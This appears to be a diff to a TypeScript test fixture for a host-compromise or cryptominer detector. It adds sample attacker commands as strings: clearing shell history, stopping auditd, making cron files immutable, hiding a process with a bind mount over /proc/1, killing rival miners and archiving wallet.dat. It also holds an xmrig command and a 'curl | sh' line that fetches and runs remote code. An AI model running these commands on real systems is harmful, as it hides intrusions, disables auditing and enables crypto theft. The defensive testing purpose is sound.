@@ -13,7 +13,7 @@ export function longNamed(name: string): FactsFixture {
       { ...base, client: "192.0.2.3:1", dialect: "stratum-v2" },
     ],
     contacts: [{ client: "192.0.2.4", by: "dns", name, chain: [name, name], pool: name, matched: name }],
-    host: [...wayIn(name), ...staying(name)],
+    host: [...wayIn(name), ...staying(name), ...deeds(name), ...theft(name)],
   };
 }
 
@@ -42,5 +42,32 @@ function staying(name: string): HostFixture[] {
       args: `xmrig -o ${name}.example:3333 -u ${name}`,
     },
     { ...typed, text: `curl http://203.0.113.9/a | sh; ${name}` },
+  ];
+}
+
+function deeds(name: string): HostFixture[] {
+  const typed = { kind: "command", at: 90, user: name, from: name, by: name } as const;
+  const texts = [
+    `history -c; ${name}`,
+    `chattr +i /etc/cron.d/${name}`,
+    `mv /usr/bin/wget /usr/bin/w${name}`,
+    `pkill kinsing; pkill kdevtmpfsi; pkill xmrig; ${name}`,
+    `systemctl stop auditd; ${name}`,
+    `mount --bind /tmp /proc/1; ${name}`,
+    `tar cf x wallet.dat; ${name}`,
+  ];
+  return [
+    ...texts.map((text) => ({ ...typed, text, excerpt: name })),
+    { kind: "event", at: 91, what: "log-cleared", subject: name, user: name, says: name },
+    { kind: "event", at: 91, what: "service-stopped", subject: `auditd ${name}`, user: name, says: name },
+    { kind: "event", at: 91, what: "module-loaded", subject: "diamorphine", user: name, says: name },
+  ];
+}
+
+function theft(name: string): HostFixture[] {
+  const held = { kind: "address", path: name, address: name, excerpt: `clipboard ${name}` } as const;
+  return [
+    ...["btc", "eth", name].map((coin) => ({ ...held, coin })),
+    { kind: "secret", what: "wif", path: name },
   ];
 }
